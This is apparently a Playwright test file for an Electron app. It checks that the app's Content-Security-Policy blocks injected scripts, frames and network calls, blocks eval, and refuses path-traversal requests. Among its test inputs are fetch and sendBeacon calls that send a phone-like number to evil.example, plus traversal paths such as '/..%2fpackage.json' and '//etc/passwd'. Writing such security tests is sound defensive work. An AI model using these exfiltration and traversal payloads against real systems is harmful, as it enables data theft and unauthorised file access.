import { expect, test } from './electron-test.ts';

test('every answer of the app’s scheme carries the policy', async ({ lone }) => {
  const answer = await lone.page.reload();
  const headers = answer?.headers() ?? {};
  expect(headers['content-security-policy']).toContain("default-src 'none'");
  expect(headers['content-security-policy']).not.toMatch(/unsafe|\*/);
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('no-referrer');
});

test('the page itself breaks no rule of it', async ({ lone }) => {
  expect(await lone.cspViolations()).toEqual([]);
});

test('what is put into the page does not run, load or send, and is counted', async ({ lone }) => {
  await lone.page.evaluate(async () => {
    const add = (tag: string, attributes: Record<string, string>, text = ''): void => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.textContent = text;
      document.body.append(element);
    };
    add('script', {}, 'window.ran = true');
    add('script', { src: 'https://evil.example/x.js' });
    add('script', { src: 'data:text/javascript,window.ran=true' });
    add('img', { src: 'https://evil.example/x.png', onerror: 'window.ran = true' });
    add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' });
    add('style', {}, 'body { display: none }');
    add('iframe', { src: 'https://evil.example/' });
    add('object', { data: 'https://evil.example/x.swf' });
    await fetch('https://evil.example/?01019012345').catch(() => undefined);
    await fetch('http://127.0.0.1:9/').catch(() => undefined);
    navigator.sendBeacon('https://evil.example/', '01019012345');
    try {
      new WebSocket('wss://evil.example/');
    } catch {
      // Refused at once or later; both are counted.
    }
    try {
      new Worker(URL.createObjectURL(new Blob(['1'])));
    } catch {
      // As above.
    }
  });
  await expect
    .poll(async () =>
      [...new Set((await lone.cspViolations()).map((line) => line.split(' ')[0] ?? ''))].toSorted(
        (a, b) => a.localeCompare(b),
      ),
    )
    .toEqual([
      'connect-src',
      'frame-src',
      'img-src',
      'object-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
      'worker-src',
    ]);
  expect(await lone.page.evaluate(() => Reflect.has(window, 'ran'))).toBe(false);
  await expect(lone.page.locator('body')).toBeVisible();
});

test('text does not become code', async ({ lone }) => {
  // Asked through main: what Playwright evaluates is let past the policy.
  const outcomes = await lone.electron.evaluate(
    ({ BrowserWindow }) =>
      BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(`
      [() => new Function('return 1')(), () => eval('1')].map((run) => {
        try { return typeof run(); } catch (error) { return error.name; }
      })`) as Promise<unknown>,
  );
  expect(outcomes).toEqual(['EvalError', 'EvalError']);
});

test('the scheme has the built files and no others', async ({ lone }) => {
  const statuses = await lone.page.evaluate(async () => {
    const addresses = [
      '/index.html',
      '/..%2fpackage.json',
      '/%2e%2e/main/index.js',
      '/%2e%2e%2f%2e%2e%2fpackage.json',
      '/..%5c..%5cpackage.json',
      '//etc/passwd',
      '/etc/passwd',
      '/assets/',
      '/main/index.js',
      '/__proto__',
    ];
    const found: Record<string, number> = {};
    for (const address of addresses) {
      found[address] = await fetch(`app://flo${address}`).then(
        ({ status }) => status,
        () => 0,
      );
    }
    return found;
  });
  const { '/index.html': index, ...others } = statuses;
  expect(index).toBe(200);
  expect(new Set(Object.values(others))).toEqual(new Set([404]));
});
